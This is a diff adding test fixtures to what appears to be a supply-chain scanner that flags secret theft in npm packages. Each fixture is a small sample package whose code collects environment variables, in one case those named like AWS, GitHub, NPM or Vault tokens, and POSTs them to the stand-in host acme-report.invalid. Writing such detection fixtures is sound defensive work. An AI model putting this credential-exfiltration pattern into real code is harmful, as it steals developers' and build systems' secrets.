@@ -180,6 +180,26 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
       },
       weight: 'strong',
     },
+    {
+      when: 'another file picks the keys of many services out of it',
+      files: {
+        'package.json': { name: 'acme-report', version: '1.0.0', main: 'index.js' },
+        'index.js': `const { pick } = require('./pick'), { send } = require('./send'); exports.report = () => send(pick(process.env));`,
+        'pick.js': `const KEYS = /^(NPM|NODE_AUTH|AWS|GITHUB|VAULT|DOCKER)_|TOKEN$/; exports.pick = env => Object.keys(env).filter(k => KEYS.test(k)).map(k => k + '=' + env[k]);`,
+        'send.js': `exports.send = list => fetch('https://acme-report.invalid/', { method: 'POST', body: list.join() });`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'another file picks the systems that build out of it, for a service of its own',
+      files: {
+        'package.json': { name: 'acme-report', version: '1.0.0', main: 'index.js' },
+        'index.js': `const { pick } = require('./pick'), { send } = require('./send'); exports.report = () => send(pick(process.env));`,
+        'pick.js': `const CI = /^(TRAVIS|CIRCLECI|APPVEYOR|DRONE|BUILDKITE)$/; exports.pick = env => Object.keys(env).filter(k => CI.test(k)).map(k => k + '=' + env[k]);`,
+        'send.js': `exports.send = list => fetch('https://acme-report.invalid/', { method: 'POST', body: list.join() });`,
+      },
+      weight: 'context',
+    },
   ],
   silent: [
     {
